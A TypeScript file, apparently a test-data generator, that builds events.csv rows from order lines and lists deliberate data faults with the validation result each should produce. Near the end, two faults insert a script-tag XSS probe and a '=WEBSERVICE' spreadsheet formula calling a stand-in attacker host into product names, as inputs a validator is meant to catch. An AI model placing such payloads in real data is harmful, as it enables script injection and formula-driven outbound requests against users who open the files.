import type { Dirt } from "./dirt.ts";
import type { OrderLine } from "./order-lines.ts";

/** The columns of events.csv, in order. */
export const EVENT_COLUMNS = [
	"line_id",
	"customer_id",
	"event",
	"time",
	"order",
	"sku",
	"product",
	"quantity",
	"price",
	"amount",
] as const;
export type EventRow = Record<(typeof EVENT_COLUMNS)[number], string>;

const LINES_AN_ORDER = 5;

/** The first lines of every order of a known customer, so that orders, dates and returns stay as they were. */
export function eventsOf(lines: readonly OrderLine[]): EventRow[] {
	return lines.filter(({ customerId, lineNo }) => customerId !== "" && lineNo <= LINES_AN_ORDER).map(event);
}

/** Some of the shop's own lines without a customer. */
export function orphansOf(lines: readonly OrderLine[], count: number): EventRow[] {
	const orphans = lines.filter(({ customerId, price }) => customerId === "" && price > 0);
	const step = Math.floor(orphans.length / count);
	return Array.from({ length: count }, (_, index) => event(orphans[index * step] as OrderLine));
}

function event(line: OrderLine): EventRow {
	return {
		line_id: `${line.order}-${line.lineNo}`,
		customer_id: line.customerId,
		event: line.order.startsWith("C") ? "return" : "purchase",
		time: line.time,
		order: line.order,
		sku: line.sku,
		product: line.product,
		quantity: String(line.quantity),
		price: String(line.price),
		amount: (Math.round(line.quantity * line.price * 100) / 100).toFixed(2),
	};
}

const set =
	(column: keyof EventRow, ...values: readonly string[]): Dirt<EventRow>["damage"] =>
	(row, random) => ({ ...row, [column]: random.pick(values) });

export const EVENT_DIRT: readonly Dirt<EventRow>[] = [
	{
		what: "line that occurs twice",
		rows: 40,
		extra: true,
		expect: "accepted, counted as unchanged: same message id",
		damage: (row) => row,
	},
	{
		what: "time that does not exist",
		rows: 15,
		expect: "timestamp-invalid",
		damage: set("time", "2011-02-30 10:00:00", "2011-06-01 25:61:00", "yesterday"),
	},
	{ what: "no time", rows: 8, expect: "time-missing", damage: set("time", "") },
	{ what: "no event name", rows: 6, expect: "event-name-missing", damage: set("event", "") },
	{
		what: "amount that is no number",
		rows: 12,
		expect: "decimal-invalid",
		damage: set("amount", "free", "12..50", "1,2,3.x"),
	},
	{
		what: "quantity that is no whole number",
		rows: 8,
		expect: "integer-invalid",
		damage: set("quantity", "six", "2.5"),
	},
	{
		what: "script in the product name",
		rows: 5,
		expect: "active-markup",
		damage: set("product", "<script>alert(1)</script>"),
	},
	{
		what: "formula in the product name",
		rows: 5,
		expect: "active-formula",
		damage: set("product", '=WEBSERVICE("http://evil.example")'),
	},
];
